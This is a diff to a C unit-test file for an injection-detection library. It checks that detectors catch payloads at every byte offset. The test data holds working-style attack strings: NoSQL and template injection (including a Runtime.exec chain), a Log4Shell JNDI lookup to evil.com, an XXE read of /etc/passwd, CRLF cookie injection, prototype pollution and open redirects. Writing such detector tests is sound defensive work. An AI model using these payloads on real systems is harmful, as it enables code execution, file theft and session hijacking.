@@ -218,6 +218,110 @@ static void test_redirect(void **state)
     QUIET(vigil__detect_redirect, 1, "https://example.com/welcome");
 }
 
+/* The trigger scans read 16 bytes at a time, short values as overlapping
+ * halves, the last block overlapping the one before, and some triggers
+ * only after given letters. A payload must be found wherever it sits:
+ * each is tried after 0-40 filler bytes and before a few suffix lengths,
+ * so every trigger byte lands on every lane, block edge and short path. */
+typedef struct placed {
+    detector    fn;
+    const char *name;
+    int         sensitivity;
+    const char *payload;
+    char        fill;   /* neutral filler for both sides */
+    int         prefix; /* 0: the payload must start the value */
+    int         suffix;
+} placed;
+
+static void test_positions(void **state)
+{
+    (void)state;
+    static const placed cases[] = {
+        {vigil__detect_nosql, "nosql", 1, "{\"$ne\": 1}", ' ', 1, 1},
+        {vigil__detect_nosql, "nosql", 1, "$ne:", ' ', 1, 1},
+        {vigil__detect_nosql, "nosql", 1, "'; return true; var x='", ' ', 1, 1},
+        {vigil__detect_nosql, "nosql", 1, "1; THIS.pw == 'a'", ' ', 1, 0},
+        {vigil__detect_nosql, "nosql", 1, "x; Db.users.find({})", ' ', 1, 1},
+        {vigil__detect_nosql, "nosql", 1, "' || 'a'=='a", ' ', 1, 0},
+        {vigil__detect_nosql, "nosql", 2, "password: /.*/", ' ', 1, 1},
+        {vigil__detect_nosql, "nosql", 2, "';sleep(5000);'", ' ', 1, 1},
+        {vigil__detect_nosql, "nosql", 2, "x+SLEEP (5000)", ' ', 1, 1},
+        {vigil__detect_nosql, "nosql", 2, "{\"&exists\": true}", ' ', 1, 1},
+        {vigil__detect_ssti, "ssti", 1, "{{7*7}}", ' ', 1, 1},
+        {vigil__detect_ssti, "ssti", 1, "${7*7}", ' ', 1, 1},
+        {vigil__detect_ssti, "ssti", 1, "<%= `id` %>", ' ', 1, 1},
+        {vigil__detect_ssti, "ssti", 1, "@(6*7)", ' ', 1, 1},
+        {vigil__detect_ssti, "ssti", 1, "{system('ls')}", ' ', 1, 1},
+        {vigil__detect_ssti, "ssti", 1,
+         "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")", ' ', 1, 1},
+        {vigil__detect_log4shell, "log4shell", 1, "${jndi:ldap://evil.com/a}", 'a', 1, 1},
+        {vigil__detect_ldap, "ldap", 1, "*)(uid=*))(|(uid=*", 'a', 1, 1},
+        {vigil__detect_ldap, "ldap", 1, "*)(&", 'a', 1, 1},
+        {vigil__detect_xpath, "xpath", 1, "x' or name()='username' or 'x'='y", ' ', 1, 1},
+        {vigil__detect_xpath, "xpath", 2, "count(/child::node())", ' ', 1, 1},
+        {vigil__detect_xpath, "xpath", 1, "')] | //user/*[contains(*,'", ' ', 1, 1},
+        {vigil__detect_xpath, "xpath", 2, "a | //user[1]", ' ', 1, 1},
+        {vigil__detect_xxe, "xxe", 1, "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
+         ' ', 1, 1},
+        {vigil__detect_xxe, "xxe", 1, "+ADwAIQ-DOCTYPE foo +AFs +ADwAIQ-ENTITY xxe SYSTEM", ' ', 1, 1},
+        {vigil__detect_crlf, "crlf", 1, "\r\nSet-Cookie: admin=1", 'a', 1, 1},
+        {vigil__detect_crlf, "crlf", 1, "%0d%0aSet-Cookie:%20x=y", 'a', 1, 1},
+        {vigil__detect_crlf, "crlf", 1, "\\r\\nSet-Cookie: x=1", 'a', 1, 1},
+        {vigil__detect_crlf, "crlf", 1, "\xe5\x98\x8a\xe5\x98\x8dSet-cookie:crlf=injection", 'a', 1, 1},
+        {vigil__detect_crlf, "crlf", 1, "\xc4\x8d\xc4\x8aSet-Cookie: a=1", 'a', 1, 1},
+        {vigil__detect_crlf, "crlf", 2, "GET / HTTP/1.1 ", 'x', 0, 1},
+        {vigil__detect_proto_key, "proto", 1, "[__proto__][x]", 'a', 1, 1},
+        {vigil__detect_proto_key, "proto", 1, "constructor.prototype.x", 'a', 1, 1},
+        {vigil__detect_redirect, "redirect", 1, "//evil.com", 'a', 0, 1},
+        {vigil__detect_redirect, "redirect", 1, "java\tscript:alert(1)", 'a', 0, 1},
+        {vigil__detect_redirect, "redirect", 1, "/\\evil.com", 'a', 0, 1},
+        {vigil__detect_redirect, "redirect", 2, "/login?next=https://evil.com", 'a', 0, 0},
+        {vigil__detect_redirect, "redirect", 2, "\";alert(0);//", 'a', 0, 1},
+    };
+    static const size_t suffixes[] = {0, 1, 7, 16, 33};
+    char buf[256];
+    for (size_t c = 0; c < sizeof cases / sizeof cases[0]; c++) {
+        const placed *pc = &cases[c];
+        size_t pl = strlen(pc->payload);
+        for (size_t pre = 0; pre <= (pc->prefix ? 40u : 0u); pre++) {
+            for (size_t si = 0; si < (pc->suffix ? 5u : 1u); si++) {
+                size_t n = pre + pl + suffixes[si];
+                memset(buf, pc->fill, n);
+                memcpy(buf + pre, pc->payload, pl);
+                vigil__finding f;
+                if (!pc->fn(buf, n, pc->sensitivity, &f))
+                    fail_msg("%s missed \"%s\" after %zu and before %zu filler bytes", pc->name,
+                             pc->payload, pre, suffixes[si]);
+            }
+        }
+    }
+    /* short values of every length: the trigger at each position */
+    for (size_t n = 3; n <= 20; n++) {
+        for (size_t at = 0; at + 2 < n; at++) {
+            memset(buf, 'x', n);
+            memcpy(buf + at, "\nHost:a.b", n - at < 9 ? n - at : 9);
+            vigil__finding f;
+            int want = n - at >= 8; /* "\nHost:a." has a host-like value */
+            if (vigil__detect_crlf(buf, n, 2, &f) != want)
+                fail_msg("crlf on %zu bytes with the break at %zu: want %d", n, at, want);
+        }
+    }
+}
+
+/* Values without breaks or escapes only reach the request-line check
+ * when they start with a capital and are longer than 14 bytes, or start
+ * with a capital or a space and hold non-ASCII bytes anywhere (lead
+ * bytes, or only continuation bytes, which the scan does not stop at). */
+static void test_crlf_request_line(void **state)
+{
+    (void)state;
+    FIRES(vigil__detect_crlf, 2, "GET / HTTP/1.1 x", "GET / HTTP/1.1\xc3\xa9",
+          " GET / HTTP/1.1 \xf0\x9f\x98\x80", "\tGET / HTTP/1.1 \xc3\xa9",
+          "GET / HTTP/1.1\xf0\x9f\x98\x80", " GET / HTTP/1.1 \x80", "\tGET / HTTP/1.1\xbf");
+    QUIET(vigil__detect_crlf, 2, "GET / HTTP/1.1", " GET / HTTP/1.1", "\tGET / HTTP/1.1 x",
+          "xGET / HTTP/1.1 \xc3\xa9", "xGET / HTTP/1.1 \x80");
+}
+
 /* Empty, NULL, binary and huge pathological inputs: defined result, no
  * crash, bounded time (the test would time out if a scan were quadratic). */
 static void test_robust(void **state)
@@ -258,6 +362,7 @@ int main(void)
         cmocka_unit_test(test_ldap),    cmocka_unit_test(test_xpath),
         cmocka_unit_test(test_xxe),     cmocka_unit_test(test_crlf),
         cmocka_unit_test(test_proto),   cmocka_unit_test(test_redirect),
+        cmocka_unit_test(test_positions), cmocka_unit_test(test_crlf_request_line),
         cmocka_unit_test(test_robust),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
